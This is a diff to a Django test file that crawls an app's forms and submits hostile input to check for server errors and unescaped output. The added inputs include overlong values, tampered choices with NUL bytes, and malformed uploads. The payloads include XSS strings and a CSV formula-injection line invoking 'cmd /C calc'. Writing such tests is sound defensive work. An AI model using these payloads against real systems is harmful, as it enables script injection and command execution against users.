@@ -2,17 +2,22 @@
 
 The forms are found automatically: every page of ours that the walk reaches is opened as a
 persona allowed to see it, and every POST form on it (except the header's language and
-log-out buttons) is filled with bad values, one kind at a time.
+log-out buttons) is filled with bad values, one kind at a time: bad text in the text fields,
+values just longer than their column, tampered choices and hidden values, and hostile files
+(huge, malformed, CSVs that break the parser or its limits). All data is made up.
 """
 
 from __future__ import annotations
 
 import html
+from collections.abc import Iterator
 from dataclasses import dataclass, field
 from html.parser import HTMLParser
+from typing import Any
 
 import pytest
 from django.contrib.auth.tokens import default_token_generator
+from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client
 from django.urls import reverse
 from django.utils.encoding import force_bytes
@@ -27,7 +32,12 @@ BAD_VALUES = {
     "wrong_type": "@@@ geen-geldige-waarde ###",
     "script": '<script>alert("x")</script><img src=x onerror=alert(1)>',
     "odd_unicode": "Zoë \u202eeslaf\u202c \x00 \U0001f600 \ufeff \ufdfd \U0001d4e9",
+    "huge": "groot " * 60_000,  # 360 KB in every field
 }
+LONG_EMAIL = "a" * 64 + "@" + "b" * 63 + "." + "c" * 63 + "." + "d" * 59 + ".nl"  # 255 > 254
+LONG_URL = "https://voorbeeld.example/" + "pad/" * 60  # 266 characters, well-formed
+TAMPERED = ["99999999999999999999", "geen-keuze\x00"]  # an overflowing id; no URL, a NUL
+OK_TEXT = "Zoë de Vries (fictief)"
 TEXT_TYPES = {"text", "email", "url", "password", "search", "tel", "number", ""}
 SKIP_ACTIONS = {"/taal/", "/account/uitloggen/"}
 
@@ -38,6 +48,7 @@ class Form:
     fields: dict[str, str] = field(default_factory=dict)  # name -> input type
     selects: dict[str, str] = field(default_factory=dict)  # name -> first non-empty option
     checkboxes: list[str] = field(default_factory=list)
+    files: list[str] = field(default_factory=list)
 
 
 class FormParser(HTMLParser):
@@ -57,6 +68,8 @@ class FormParser(HTMLParser):
             kind = a.get("type", "text").lower()
             if kind == "checkbox":
                 self._form.checkboxes.append(a["name"])
+            elif kind == "file":
+                self._form.files.append(a["name"])
             elif kind in TEXT_TYPES:
                 self._form.fields[a["name"]] = kind
             elif kind == "hidden":
@@ -163,6 +176,122 @@ def test_every_form_handles_bad_input(walk_world: World, settings, kind: str) ->
                 if "<script>alert" in followed.content.decode():
                     failures.append(f"{where}: script shown unescaped after saving")
     assert forms_tried >= 11, f"only {forms_tried} forms found; the discovery is broken"
+    assert not failures, "\n".join(failures)
+
+
+def _every_form(world: World) -> Iterator[tuple[str, str, Client, str, Form]]:
+    """(route name, persona, client, page url, form) for every POST form the walk reaches."""
+    for name, persona, url in _pages(world):
+        if name == "accounts:password_reset_confirm":
+            url = _fresh_reset_url(world)
+        client = client_for(world.persona(persona))
+        final_url, forms = _forms_on(client, url)
+        for form in forms:
+            yield name, persona, client, final_url, form
+
+
+def _ordinary(form: Form) -> dict[str, Any]:
+    """What a person would fill in: a plain value everywhere, the first choice of a list."""
+    data: dict[str, Any] = dict(form.selects)
+    for field_name, field_type in form.fields.items():
+        data[field_name] = "Niet-het-goede-wachtwoord-1" if field_type == "password" else OK_TEXT
+    for box in form.checkboxes:
+        data[box] = "on"
+    return data
+
+
+def test_values_just_longer_than_their_column_get_a_message(walk_world: World, settings) -> None:  # noqa: F811
+    """A well-formed e-mail address or link longer than its column: a message, never a 500
+    (PostgreSQL refuses what is longer than a varchar; the form must say so first)."""
+    settings.AXES_ENABLED = False
+    failures: list[str] = []
+    tried = 0
+    for name, persona, client, final_url, form in _every_form(walk_world):
+        long_fields = {f: t for f, t in form.fields.items() if t in ("email", "url")}
+        if not long_fields:
+            continue
+        tried += 1
+        data = _ordinary(form)
+        for field_name, field_type in long_fields.items():
+            data[field_name] = LONG_EMAIL if field_type == "email" else LONG_URL
+        target = form.action or final_url
+        response = client.post(target, data)
+        if response.status_code >= 500:
+            failures.append(f"{name} ({target}) as {persona}: server error")
+        elif response.status_code == 302:
+            failures.append(f"{name} ({target}) as {persona}: saved a value longer than allowed")
+    assert tried >= 5, f"only {tried} forms with e-mail or link fields found"
+    assert not failures, "\n".join(failures)
+
+
+def test_tampered_choices_and_hidden_values_never_cause_a_server_error(
+    walk_world: World,  # noqa: F811
+    settings,
+) -> None:
+    """Every list, hidden value and tick box sent with a value the page never offered:
+    overflowing numbers, ids that do not exist, NUL bytes."""
+    settings.AXES_ENABLED = False
+    failures: list[str] = []
+    tried = 0
+    found = [found for found in _every_form(walk_world) if found[4].selects or found[4].checkboxes]
+    for value in TAMPERED:
+        for name, persona, client, final_url, form in found:
+            tried += 1
+            data = _ordinary(form)
+            for field_name in [*form.selects, *form.checkboxes]:
+                data[field_name] = value
+            target = form.action or final_url
+            response = client.post(target, data)
+            if response.status_code >= 500:
+                failures.append(f"{value!r} -> {name} ({target}) as {persona}: server error")
+    assert tried >= 20 * len(TAMPERED), f"only {tried} forms with choices found"
+    assert not failures, "\n".join(failures)
+
+
+def _csv(text: str) -> bytes:
+    return ("name,vendor,purpose,status,data_location\n" + text).encode()
+
+
+HOSTILE_FILES = {
+    "huge.csv": _csv("Groot (fictief),X,Doel,allowed,eu\n" * 120_000),  # ~4 MB
+    "huge.png": b"\x89PNG\r\n\x1a\n" + b"\x00" * 6_000_000,
+    "empty.csv": b"",
+    "binary.csv": bytes(range(256)) * 400,
+    "nul.csv": _csv("Nul\x00 (fictief),X,Doel,allowed,eu\n"),
+    "quoted-field.csv": _csv('Groot (fictief),X,"' + "a" * 140_000 + '",allowed,eu\n'),
+    "open-quote.csv": _csv('Open (fictief),X,"nooit gesloten\n' + "x" * 50_000),
+    "too-many-rows.csv": _csv(
+        "".join(f"Tool {i} (fictief),X,Doel,allowed,eu\n" for i in range(2_001))
+    ),
+    "many-columns.csv": _csv(",".join(["x"] * 50_000) + "\n"),
+    "formula.csv": _csv('=HYPERLINK("http://x"&A1;"Klik"),+cmd|\' /C calc\'!A0,-1,@x,eu\n'),
+    "cp1252.csv": "name,vendor,purpose,status\nZoë (fictief),X,Doel,allowed\n".encode("cp1252"),
+    "utf16.csv": "name,vendor\nZoë,X\n".encode("utf-16"),
+    "not-an-image.png": b"<svg onload=alert(1)>",
+    "truncated.png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00",
+    "fake.pdf": b"%PDF-1.4\n" + b"\x00" * 1000,
+    "zip-bomb-like.zip": b"PK\x03\x04" + b"\x00" * 5000,
+}
+
+
+def test_every_file_field_handles_hostile_files(walk_world: World, settings) -> None:  # noqa: F811
+    """Huge and malformed files in every file field: a message or a refusal, never a 500."""
+    settings.AXES_ENABLED = False
+    failures: list[str] = []
+    fields_tried: set[str] = set()
+    for name, persona, client, final_url, form in _every_form(walk_world):
+        for field_name in form.files:
+            fields_tried.add(f"{name}.{field_name}")
+            for filename, content in HOSTILE_FILES.items():
+                data = _ordinary(form)
+                data[field_name] = SimpleUploadedFile(filename, content)
+                target = form.action or final_url
+                response = client.post(target, data)
+                if response.status_code >= 500:
+                    failures.append(f"{filename} -> {name} ({target}) as {persona}: server error")
+                elif b"<svg onload" in response.content:
+                    failures.append(f"{filename} -> {name}: file content shown unescaped")
+    assert len(fields_tried) >= 2, f"only these file fields found: {fields_tried}"
     assert not failures, "\n".join(failures)
 
 
